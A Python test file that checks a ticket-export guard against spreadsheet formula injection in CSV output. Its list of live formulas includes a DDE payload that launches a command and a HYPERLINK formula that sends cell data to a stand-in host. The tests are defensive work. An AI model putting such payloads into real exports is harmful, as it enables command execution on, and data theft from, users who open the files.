"""The guard against formulas, in bytes, against an evaluation that shares nothing with it."""

import csv
import io
import random

import pytest

from export_worker.source import Source
from integration.views.reading import Connection, copy, line, now
from ticket_export.views.profiles import copy_options, guarded

DIGITS = set("0123456789")
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
LIVE_FORMULAS = [
    *STARTS,
    *(start + "1+1" for start in STARTS),
    *(start + "cmd|' /C calc'!A0" for start in STARTS),
    '=HYPERLINK("http://x/?"&A1,"a")',
    "+1-1",
    "-2+3",
    "--1",
    "+-1",
    "+",
    "-",
    "-.5",
    "+5.",
    "-1.2.3",
    "-1,5",
    "-1 ",
    "-1\n",
    "+1234567\n",
    "+49 30 123",
    "+1e5",
    "-1e5",
    "-0x10",
    "+123456a",
    "-١٢",
    "+１２",
    "@SUM(1+1)",
    "\t=1+1",
    "\n",
    "\r\n=1",
    "=" + "x" * 40_000,
    "-" + "1" * 1000 + "-",
]
HARMLESS = [
    "",
    "plain",
    "-12.5",
    "+12.5",
    "-0",
    "+1",
    "+1234567",
    "+123456789012345",
    "-00000000000000000000000000000012345678901234567890",
    "1+1",
    "a=b",
    " =1+1",
    "'=1+1",
    "''",
    '"=1+1"',
    "é=1",
    "☃",
    "\u00a0=1",
    "\ufeff=1",
    "x\n=1+1",
    "foo;=1+3;bar",
    "a,b",
    'say "hi"',
    "\\.",
    "\\N",
    "NULL",
    "x" * 40_000,
    "<script>",
    "\x0b=1",
    "𝟏+𝟏",
    "＃1",
]


def is_plain_number(value: str) -> bool:
    whole, point, fraction = value.removeprefix(value[:1] if value[:1] in "+-" else "").partition(".")
    return bool(whole) and set(whole + fraction) <= DIGITS and bool(point) == bool(fraction)


def expected(value: str | None) -> str | None:
    if not value or value[0] not in STARTS:
        return value
    phone = value[0] == "+" and 7 <= len(value) - 1 <= 15 and set(value[1:]) <= DIGITS
    return value if phone or is_plain_number(value) else "'" + value


async def written(connection: Connection, values: list[str | None]) -> bytes:
    """Return what COPY writes for the guarded values."""
    await connection.execute("CREATE TEMP TABLE IF NOT EXISTS awkward (n int, v text)")
    await connection.execute("TRUNCATE awkward")
    await connection.copy_records_to_table("awkward", records=list(enumerate(values)), columns=["n", "v"])
    content = bytearray()

    async def take(chunk: bytes) -> None:
        content.extend(chunk)

    options = copy_options(",")
    await connection.copy_from_query(
        f"SELECT {guarded('a.v')} FROM awkward a ORDER BY n",
        output=take,
        format="csv",
        delimiter=options.delimiter,
        force_quote=options.force_quote,
        encoding="UTF8",
    )
    return bytes(content)


@pytest.mark.parametrize("value", LIVE_FORMULAS, ids=range(len(LIVE_FORMULAS)))
def test_the_list_of_formulas_has_formulas_only(value: str) -> None:
    assert expected(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS, ids=range(len(HARMLESS)))
def test_the_list_of_harmless_values_has_none(value: str) -> None:
    assert expected(value) == value


async def test_every_awkward_value_is_written_as_it_must_be(owner: Connection) -> None:
    values: list[str | None] = [*LIVE_FORMULAS, None, *HARMLESS]
    content = await written(owner, values)
    assert content == b"".join(line(expected(value)) for value in values)
    read = [row[0] if row else "" for row in csv.reader(io.StringIO(content.decode(), newline=""), strict=True)]
    assert read == [expected(value) or "" for value in values]


async def test_any_value_is_written_as_it_must_be(owner: Connection) -> None:
    dice = random.Random(7)  # noqa: S311 - the same each time
    alphabet = "=+-@\t\r\n＝＋－＠0123456789.,;'\"\\ aé☃𝟏"
    values: list[str | None] = ["".join(dice.choices(alphabet, k=dice.randint(0, 9))) for _ in range(4000)]
    values += ["+" + "".join(dice.choices("0123456789", k=length)) for length in range(20) for _ in range(5)]
    content = await written(owner, values)
    assert content == b"".join(line(expected(value)) for value in values)
    changed = sum(expected(value) != value for value in values)
    assert 500 < changed < len(values) - 500


async def test_the_prefix_can_be_taken_away_again(owner: Connection) -> None:
    content = await written(owner, [*LIVE_FORMULAS, *HARMLESS])
    read = [row[0] for row in csv.reader(io.StringIO(content.decode(), newline=""), strict=True)]
    originals = [*LIVE_FORMULAS, *HARMLESS]
    restored = [cell[1:] if cell[:1] == "'" and cell[1:2] in STARTS else cell for cell in read]
    # A value that began with an apostrophe and a formula is the one that cannot be told apart.
    assert [pair for pair in zip(restored, originals, strict=True) if pair[0] != pair[1]] == [("=1+1", "'=1+1")]


async def test_titles_and_labels_of_a_view_are_guarded(owner: Connection, source: Source) -> None:
    await owner.execute("UPDATE priorities SET label = '=' || label")
    await owner.execute("UPDATE staff SET first_name = '@cmd', last_name = '-1' WHERE username = 'ada'")
    ada = await owner.fetchval("SELECT id FROM staff WHERE username = 'ada'")
    priority = await owner.fetchrow("SELECT developer_name, label FROM priorities ORDER BY sort_order LIMIT 1")
    status = await owner.fetchrow("SELECT developer_name, label FROM statuses ORDER BY sort_order LIMIT 1")
    assert priority is not None
    assert status is not None
    titles = [value for value in (*LIVE_FORMULAS, *HARMLESS) if len(value) < 1000]
    await owner.execute("DELETE FROM tickets")
    await owner.executemany(
        "INSERT INTO tickets (id, title, status, priority, assignee_id) VALUES ($1, $2, $3, $4, $5)",
        [
            (number, title, status["developer_name"], priority["developer_name"] if number % 2 else None, ada)
            for number, title in enumerate(titles, start=1)
        ],
    )
    view = (await now(owner)).view("all", "id", "title", "status", "priority", "assignee_name")
    expected_lines = [
        line(str(number), expected(title), status["label"], "'" + priority["label"] if number % 2 else None, "'@cmd -1")
        for number, title in enumerate(titles, start=1)
    ]
    assert await copy(source, view) == b"".join(reversed(expected_lines))
